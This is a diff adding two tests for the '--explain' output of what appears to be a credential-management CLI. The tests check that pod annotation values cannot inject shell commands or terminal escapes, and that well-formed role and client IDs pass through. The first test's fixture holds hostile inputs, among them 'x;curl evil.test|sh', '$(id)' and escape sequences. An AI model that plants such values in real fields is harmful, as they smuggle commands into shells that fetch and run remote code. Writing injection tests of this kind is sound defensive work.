@@ -122,6 +122,56 @@ test('--explain with a target: what it may hold, until when, and what ends it', 
   );
 });
 
+test('--explain: no annotation of the pod gets into a command, or reaches the terminal, as it likes', async () => {
+  const hostile = [
+    'x;curl evil.test|sh',
+    '$(id)',
+    '`id`',
+    'a b',
+    "a'",
+    '--profile=evil',
+    'a\nid',
+    'a\u001b[2K',
+    'a'.repeat(65),
+    '',
+  ];
+  for (const text of hostile) {
+    pod({
+      'signet.dev/for': 'claude,aws,azure',
+      'claude.signet.dev/federation-rule-id': text,
+      'aws.signet.dev/role-arn': `arn:aws:iam::1:role/${text}`,
+      'azure.signet.dev/client-id': text,
+    });
+    const rows = new Map(
+      (await receipt('--explain', '--dry-run')).elsewhere?.map((row) => [row.what, row.end]),
+    );
+    const end = (what: string) => rows.get(what) ?? assert.fail(what);
+    assert.match(end('AWS session'), /^aws iam put-role-policy --role-name ROLE --policy-name /);
+    assert.equal(
+      end('Entra access token'),
+      'az ad sp update --id (see azure.signet.dev/client-id) --set accountEnabled=false',
+    );
+    assert.match(end('Claude API access token'), / rule \(see claude\.signet\.dev\/\S+\)$/);
+  }
+  pod({}, { 'signet.dev/files': 'true', 'signet.dev/jwt-audience': 'x\u001b[2Ky' });
+  assert.match(
+    await run('--explain', '--dry-run'),
+    /: whatever was given for tokens for x\?\[2Ky\n/,
+  );
+});
+
+test('--explain: names of the form that the consumers give are taken over', async () => {
+  const id = '01234567-89ab-cdef-0123-456789ABCDEF';
+  pod({
+    'signet.dev/for': 'aws,azure',
+    'aws.signet.dev/role-arn': 'arn:aws:iam::1:role/a+=,.@-_9',
+    'azure.signet.dev/client-id': id,
+  });
+  const said = await run('--explain', '--dry-run');
+  assert.ok(said.includes(' --role-name a+=,.@-_9 '));
+  assert.ok(said.includes(`az ad sp update --id ${id} --set`));
+});
+
 test('--explain: audiences that a restriction does not allow, or no tokens at all, are no matter', async () => {
   pod({ 'signet.dev/for': 'claude,aws' });
   answer({}, []);
